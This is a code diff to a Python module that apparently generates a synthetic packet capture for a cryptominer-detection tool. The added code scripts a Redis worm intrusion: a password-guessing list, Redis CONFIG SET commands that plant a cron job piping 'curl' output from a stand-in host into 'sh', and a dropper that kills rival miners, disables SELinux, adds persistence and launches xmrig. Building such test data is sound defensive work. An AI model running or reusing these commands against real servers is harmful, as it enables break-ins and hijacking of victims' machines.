@@ -1,8 +1,10 @@
 """A small demonstration capture, made by the project's own packet crafting (nothing recorded, no network).
 
-The story: host 10.1.1.20 is broken into and mines Monero with xmrig through a CryptoNote pool; host
-10.1.1.21 mines with a Stratum v1 miner; host 10.1.1.30 only browses and resolves names. Addresses are
-from the documentation ranges (RFC 5737), except the pool names, which are real pool domains.
+The story, as a Redis mining worm tells it: 203.0.113.50 guesses the Redis password of host 10.1.1.20,
+then uses Redis to write a cron job; the cron job downloads a dropper script and an xmrig build from
+203.0.113.66; 10.1.1.20 then mines Monero through a CryptoNote pool. Host 10.1.1.21 mines with a
+Stratum v1 miner; host 10.1.1.30 only browses and resolves names. Addresses are from the documentation
+ranges (RFC 5737); the pool name is a real pool domain, so the shipped threat intelligence knows it.
 """
 
 from __future__ import annotations
@@ -17,12 +19,83 @@ from minerwatch.capture.writer import PcapWriter, TcpConversation, dns_exchange
 START = 1_764_000_000.0  # 2025-11-24T16:00:00Z
 VICTIM, STRATUM_MINER, BYSTANDER = "10.1.1.20", "10.1.1.21", "10.1.1.30"
 XMR_POOL, BTC_POOL, WEB = "198.51.100.7", "198.51.100.9", "203.0.113.80"
+ATTACKER, DROP_SITE = "203.0.113.50", "203.0.113.66"
 WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
 AGENT = "XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/11.2.0"
 
 
 def _line(obj: dict) -> bytes:
     return json.dumps(obj, separators=(",", ":")).encode() + b"\n"
+
+
+def _resp(*words: bytes) -> bytes:
+    """A Redis command in RESP, as redis-cli and worms send it."""
+    return b"*%d\r\n" % len(words) + b"".join(b"$%d\r\n%s\r\n" % (len(w), w) for w in words)
+
+
+def _redis_break_in() -> list[TcpConversation]:
+    """Twelve wrong passwords, the right one, then CONFIG SET to plant a cron job that fetches the dropper."""
+    conversations = []
+    for i, guess in enumerate(
+        [
+            b"123456",
+            b"redis",
+            b"admin",
+            b"password",
+            b"root",
+            b"foobared",
+            b"qwerty",
+            b"redis123",
+            b"test",
+            b"12345678",
+            b"default",
+            b"changeme",
+            b"Passw0rd",
+        ]
+    ):
+        c = TcpConversation(ATTACKER, 51000 + i, VICTIM, 6379, ts=START + 2 + i * 1.5).open()
+        c.send(True, _resp(b"AUTH", guess))
+        right = guess == b"Passw0rd"
+        c.send(False, b"+OK\r\n" if right else b"-WRONGPASS invalid username-password pair\r\n")
+        if right:
+            cron = b"\n\n*/5 * * * * curl -fsSL http://%s/init.sh | sh\n\n" % DROP_SITE.encode()
+            for command in (
+                _resp(b"CONFIG", b"SET", b"dir", b"/var/spool/cron/"),
+                _resp(b"CONFIG", b"SET", b"dbfilename", b"root"),
+                _resp(b"SET", b"backup1", cron),
+                _resp(b"SAVE"),
+            ):
+                c.send(True, command).send(False, b"+OK\r\n")
+        conversations.append(c.close())
+    return conversations
+
+
+DROPPER = b"""#!/bin/sh
+pkill -f kdevtmpfsi; pkill -f kinsing; netstat -anp | grep :3333 | awk '{print $7}' | xargs kill -9
+setenforce 0; chattr -i /etc/crontab
+curl -fsSL http://%s/xmrig -o /tmp/.x/xmrig && chmod +x /tmp/.x/xmrig
+(crontab -l; echo "*/10 * * * * /tmp/.x/xmrig") | crontab -
+/tmp/.x/xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u %s --donate-level 1 -B
+""" % (DROP_SITE.encode(), WALLET.encode())
+
+MINER_BINARY = (
+    b"\x7fELF\x02\x01\x01\x00"
+    + bytes(8)
+    + b"\x02\x00\x3e\x00"
+    + bytes(44)
+    + b"XMRig 6.21.0\x00 built on Nov 1 2025 with GCC\x00donate-level\x00randomx\x00cryptonight\x00"
+    + b'{"pools":[{"url":"pool.supportxmr.com:3333","user":"%s","pass":"x"}]}' % WALLET.encode()
+    + bytes(4096)
+)
+
+
+def _download(path: bytes, body: bytes, ts: float, port: int) -> TcpConversation:
+    c = TcpConversation(VICTIM, port, DROP_SITE, 80, ts=ts).open()
+    c.send(
+        True, b"GET /%s HTTP/1.1\r\nHost: %s\r\nUser-Agent: curl/7.88.1\r\n\r\n" % (path, DROP_SITE.encode())
+    )
+    c.send(False, b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
+    return c.close()
 
 
 def _xmrig_session(rng: random.Random) -> TcpConversation:
@@ -143,7 +216,17 @@ def write_sample(path: Path, seed: int = 7) -> int:
     packets: list[tuple[float, bytes]] = []
     packets += dns_exchange(VICTIM, "192.0.2.53", "pool.supportxmr.com", XMR_POOL, START + 119, 1)
     packets += dns_exchange(BYSTANDER, "192.0.2.53", "www.example.com", WEB, START + 1, 2)
-    for conversation in (_xmrig_session(rng), _stratum_session(rng), *_browsing(rng)):
+    downloads = (
+        _download(b"init.sh", DROPPER, START + 60, 44000),
+        _download(b"xmrig", MINER_BINARY, START + 70, 44001),
+    )
+    for conversation in (
+        *_redis_break_in(),
+        *downloads,
+        _xmrig_session(rng),
+        _stratum_session(rng),
+        *_browsing(rng),
+    ):
         packets += conversation.packets
     packets.sort(key=lambda p: p[0])
     with path.open("wb") as out:
